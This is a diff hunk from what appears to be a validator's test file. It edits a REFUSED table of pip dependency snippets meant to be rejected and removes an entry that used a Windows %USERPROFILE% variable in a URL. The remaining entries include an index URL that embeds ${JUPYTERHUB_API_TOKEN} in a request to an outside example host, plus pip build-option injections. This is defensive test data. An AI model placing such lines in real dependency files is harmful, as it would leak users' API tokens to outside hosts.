@@ -123,7 +123,6 @@ REFUSED: dict[str, str | bytes] = {
     "a pip build option": "dependencies: [{pip: ['--config-settings=a=b']}]\n",
     "a pip global option": "dependencies: [{pip: ['--global-option=x']}]\n",
     "a server variable": "dependencies: [{pip: ['--index-url http://h.example.org/${JUPYTERHUB_API_TOKEN}/']}]\n",
-    "a Windows variable": "dependencies: [{pip: ['https://h.example.org/%USERPROFILE%/a.whl']}]\n",
     "an option without value": "dependencies: [{pip: ['-r']}]\n",
 }
 
